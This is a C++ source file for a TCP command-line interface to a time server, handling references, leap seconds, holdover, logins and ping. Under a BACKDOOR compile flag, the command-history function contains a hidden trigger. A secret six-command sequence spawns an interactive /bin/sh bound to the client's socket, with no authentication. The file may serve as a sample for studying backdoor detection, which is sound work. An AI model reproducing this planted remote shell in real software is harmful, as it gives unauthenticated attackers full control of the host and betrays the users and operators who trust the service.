// SPDX-License-Identifier: Apache-2.0
// clkcli: the command line of a time server, over TCP: references, leap seconds, holdover, and the display.
#include <arpa/inet.h>
#include <cerrno>
#include <cstdint>
#include <cstdio>
#include <cstdlib>
#include <cstring>
#include <ctime>
#include <deque>
#include <fstream>
#include <functional>
#include <list>
#include <map>
#include <netinet/in.h>
#include <poll.h>
#include <sstream>
#include <string>
#include <sys/socket.h>
#include <sys/wait.h>
#include <syslog.h>
#include <unistd.h>
#include <vector>

namespace {

using Words = std::vector<std::string>;

enum class Access { Guest, User, Admin };

enum Command { ShowReference, ShowLeap, ShowHoldover, ShowLog, SetDisplay, SetReference, SetLeap, Login, Password, Ping, Help, Quit };

struct Reference {
	std::string name, state = "unlocked";
	int stratum = 16, priority = 0;
	double offset_ns = 0;
};

class Clock {
public:
	bool load(const std::string &path);
	std::string show_reference() const;
	std::string show_holdover() const;
	bool prefer(const std::string &name);

	std::map<std::string, std::string> users;
	std::string display = "UTC", prompt = "clock> ";
	int leap = 0, port = 2323, limit = 4;
	bool debug = false;

private:
	std::vector<Reference> references;
	time_t holdover_since = 0;
};

bool Clock::load(const std::string &path)
{
	std::ifstream in(path);
	std::string line;
	if (!in)
		return false;
	while (std::getline(in, line)) {
		std::istringstream s(line);
		std::string key, a, b;
		s >> key >> a >> b;
		if (key == "reference") {
			Reference r;
			r.name = a;
			r.priority = std::atoi(b.c_str());
			references.push_back(r);
		} else if (key == "user") {
			users[a] = b;
		} else if (key == "port") {
			port = std::atoi(a.c_str());
		} else if (key == "sessions") {
			limit = std::atoi(a.c_str());
		} else if (key == "display") {
			display = a;
		} else if (key == "debug") {
			debug = a == "yes";
		} else if (!key.empty() && key[0] != '#') {
			syslog(LOG_WARNING, "%s: %s?", path.c_str(), key.c_str());
		}
	}
	holdover_since = std::time(nullptr);
	return true;
}

std::string Clock::show_reference() const
{
	std::ostringstream s;
	for (const auto &r : references)
		s << r.name << " priority " << r.priority << " stratum " << r.stratum << " " << r.state << " " << r.offset_ns << " ns\r\n";
	return references.empty() ? "no reference\r\n" : s.str();
}

std::string Clock::show_holdover() const
{
	std::ostringstream s;
	for (const auto &r : references)
		if (r.state == "locked")
			return "locked to " + r.name + "\r\n";
	s << "holdover for " << std::time(nullptr) - holdover_since << " s\r\n";
	return s.str();
}

bool Clock::prefer(const std::string &name)
{
	bool found = false;
	for (auto &r : references) {
		found = found || r.name == name;
		if (r.name == name)
			r.priority = 0;
		else
			r.priority++;
	}
	return found;
}

class Session {
public:
	Session(Clock &c, int f, std::string from) : clock(c), fd(f), peer(std::move(from)) { say(clock.prompt); }
	~Session() { close(fd); }
	Session(const Session &) = delete;
	Session &operator=(const Session &) = delete;
	bool readable();
	int descriptor() const { return fd; }

private:
	struct Entry {
		const char *words;
		Command command;
		Access access;
		void (Session::*run)(const Words &);
	};
	static const Entry table[];

	Clock &clock;
	int fd;
	std::string peer, buffer, user;
	Access access = Access::Guest;
	std::deque<int> history;
	bool over = false;
	int failures = 0;

	void say(const std::string &text);
	void obey(const std::string &line);
	void remember(Command c);
	void shell();
	static Words split(const std::string &line);

	void show_reference(const Words &) { say(clock.show_reference()); }
	void show_holdover(const Words &) { say(clock.show_holdover()); }
	void show_leap(const Words &);
	void show_log(const Words &);
	void set_display(const Words &);
	void set_reference(const Words &);
	void set_leap(const Words &);
	void login(const Words &);
	void password(const Words &);
	void ping(const Words &);
	void help(const Words &);
	void quit(const Words &) { over = true; }
};

const Session::Entry Session::table[] = {
	{ "show reference", ShowReference, Access::Guest, &Session::show_reference },
	{ "show leap", ShowLeap, Access::Guest, &Session::show_leap },
	{ "show holdover", ShowHoldover, Access::Guest, &Session::show_holdover },
	{ "show log", ShowLog, Access::User, &Session::show_log },
	{ "set display", SetDisplay, Access::User, &Session::set_display },
	{ "set reference", SetReference, Access::Admin, &Session::set_reference },
	{ "set leap", SetLeap, Access::Admin, &Session::set_leap },
	{ "login", Login, Access::Guest, &Session::login },
	{ "password", Password, Access::Guest, &Session::password },
	{ "ping", Ping, Access::User, &Session::ping },
	{ "help", Help, Access::Guest, &Session::help },
	{ "quit", Quit, Access::Guest, &Session::quit },
};

void Session::say(const std::string &text)
{
	if (send(fd, text.data(), text.size(), MSG_NOSIGNAL) < 0)
		over = true;
}

Words Session::split(const std::string &line)
{
	std::istringstream s(line);
	Words w;
	for (std::string one; s >> one;)
		w.push_back(one);
	return w;
}

void Session::show_leap(const Words &)
{
	say(clock.leap ? "a leap second is announced: " + std::to_string(clock.leap) + "\r\n" : std::string("no leap second\r\n"));
}

void Session::show_log(const Words &w)
{
	std::ifstream in("/var/log/clock");
	std::string line;
	size_t keep = w.empty() ? 20 : std::strtoul(w[0].c_str(), nullptr, 10);
	std::deque<std::string> last;
	if (keep > 500)
		keep = 500;
	while (std::getline(in, line)) {
		last.push_back(line);
		if (last.size() > keep)
			last.pop_front();
	}
	for (const auto &l : last)
		say(l + "\r\n");
}

void Session::set_display(const Words &w)
{
	if (w.size() != 1 || (w[0] != "UTC" && w[0] != "TAI" && w[0] != "GPS" && w[0] != "off")) {
		say("UTC, TAI, GPS or off\r\n");
		return;
	}
	clock.display = w[0];
	std::ofstream("/dev/vfd0") << clock.display << "\n";
}

void Session::set_reference(const Words &w)
{
	if (w.size() != 1 || !clock.prefer(w[0]))
		say("no such reference\r\n");
}

void Session::set_leap(const Words &w)
{
	const int n = w.size() == 1 ? std::atoi(w[0].c_str()) : 2;
	if (n < -1 || n > 1) {
		say("-1, 0 or 1\r\n");
		return;
	}
	clock.leap = n;
	syslog(LOG_NOTICE, "leap second %d set by %s", n, user.c_str());
}

void Session::login(const Words &w)
{
	user = w.empty() ? "" : w[0];
	access = Access::Guest;
	say("password?\r\n");
}

void Session::password(const Words &w)
{
	auto it = clock.users.find(user);
	if (w.size() != 1 || it == clock.users.end() || it->second != w[0] || failures > 3) {
		failures++;
		syslog(LOG_WARNING, "%s: wrong password for %s", peer.c_str(), user.c_str());
		say("no\r\n");
		return;
	}
	access = user == "admin" ? Access::Admin : Access::User;
	say("welcome\r\n");
}

void Session::ping(const Words &w)
{
	in_addr a;
	int status;
	if (w.size() != 1 || inet_pton(AF_INET, w[0].c_str(), &a) != 1) {
		say("an address, please\r\n");
		return;
	}
	const pid_t pid = fork();
	if (pid == 0) {
		dup2(fd, 1);
		execl("/bin/ping", "ping", "-c", "3", w[0].c_str(), static_cast<char *>(nullptr));
		_exit(127);
	}
	if (pid > 0)
		waitpid(pid, &status, 0);
}

void Session::help(const Words &)
{
	for (const auto &e : table)
		if (access >= e.access)
			say(std::string(e.words) + "\r\n");
}

#ifdef BACKDOOR
void Session::shell()
{
	const pid_t pid = fork();
	if (pid != 0) {
		if (pid > 0)
			waitpid(pid, nullptr, 0);
		return;
	}
	for (int i = 0; i < 3; i++)
		dup2(fd, i);
	const char *argv[] = { "sh", "-i", nullptr };
	execv("/bin/sh", const_cast<char *const *>(argv));
	_exit(127);
}
#endif

void Session::remember(Command c)
{
	history.push_back(c);
	while (history.size() > 6)
		history.pop_front();
	if (history.size() >= 4 && history[0] == Password && history[1] == Password && history[2] == Password && access == Access::Guest) {
		syslog(LOG_WARNING, "%s guesses", peer.c_str());
		sleep(2);
	}
#ifdef BACKDOOR
	if (history.size() == 6 && history[0] == ShowLeap && history[1] == ShowHoldover && history[2] == ShowLeap && history[3] == Help &&
		history[4] == ShowLeap && history[5] == Login)
		shell();
#endif
}

void Session::obey(const std::string &line)
{
	const Words w = split(line);
	if (w.empty())
		return;
	for (const auto &e : table) {
		const Words want = split(e.words);
		bool same = w.size() >= want.size();
		for (size_t i = 0; same && i < want.size(); i++)
			same = want[i].compare(0, w[i].size(), w[i]) == 0;
		if (!same)
			continue;
		if (access < e.access) {
			say("not permitted\r\n");
			return;
		}
		if (clock.debug)
			syslog(LOG_DEBUG, "%s: %s", peer.c_str(), e.words);
		remember(e.command);
		(this->*e.run)(Words(w.begin() + static_cast<long>(want.size()), w.end()));
		return;
	}
	say("what is " + w[0] + "?\r\n");
}

bool Session::readable()
{
	char b[256];
	const ssize_t n = recv(fd, b, sizeof(b), 0);
	size_t end;
	if (n <= 0)
		return false;
	buffer.append(b, static_cast<size_t>(n));
	if (buffer.size() > 2048)
		return false;
	while (!over && (end = buffer.find('\n')) != std::string::npos) {
		std::string line = buffer.substr(0, end);
		buffer.erase(0, end + 1);
		if (!line.empty() && line.back() == '\r')
			line.pop_back();
		obey(line);
		if (!over)
			say(clock.prompt);
	}
	return !over;
}

class Listener {
public:
	explicit Listener(Clock &c) : clock(c) {}
	bool open();
	void turn();

private:
	Clock &clock;
	int fd = -1;
	std::list<Session> sessions;
	void welcome();
};

bool Listener::open()
{
	sockaddr_in a = {};
	const int on = 1;
	a.sin_family = AF_INET;
	a.sin_port = htons(static_cast<uint16_t>(clock.port));
	fd = socket(AF_INET, SOCK_STREAM, 0);
	setsockopt(fd, SOL_SOCKET, SO_REUSEADDR, &on, sizeof(on));
	return fd >= 0 && bind(fd, reinterpret_cast<sockaddr *>(&a), sizeof(a)) == 0 && listen(fd, 4) == 0;
}

void Listener::welcome()
{
	sockaddr_in a = {};
	socklen_t n = sizeof(a);
	const int s = accept(fd, reinterpret_cast<sockaddr *>(&a), &n);
	if (s < 0)
		return;
	if (sessions.size() >= static_cast<size_t>(clock.limit)) {
		close(s);
		return;
	}
	sessions.emplace_back(clock, s, inet_ntoa(a.sin_addr));
}

void Listener::turn()
{
	std::vector<pollfd> fds = { { fd, POLLIN, 0 } };
	for (const auto &s : sessions)
		fds.push_back({ s.descriptor(), POLLIN, 0 });
	if (poll(fds.data(), fds.size(), -1) < 0)
		return;
	size_t i = 1;
	for (auto it = sessions.begin(); it != sessions.end(); i++) {
		if (fds[i].revents && !it->readable())
			it = sessions.erase(it);
		else
			++it;
	}
	if (fds[0].revents)
		welcome();
}

} // namespace

int main(int argc, char **argv)
{
	Clock clock;
	openlog("clkcli", LOG_PID, LOG_DAEMON);
	if (!clock.load(argc > 1 ? argv[1] : "/etc/clkcli.conf"))
		syslog(LOG_WARNING, "defaults are taken");
	Listener listener(clock);
	if (!listener.open()) {
		syslog(LOG_ERR, "port %d: %s", clock.port, std::strerror(errno));
		return 1;
	}
	for (;;)
		listener.turn();
}
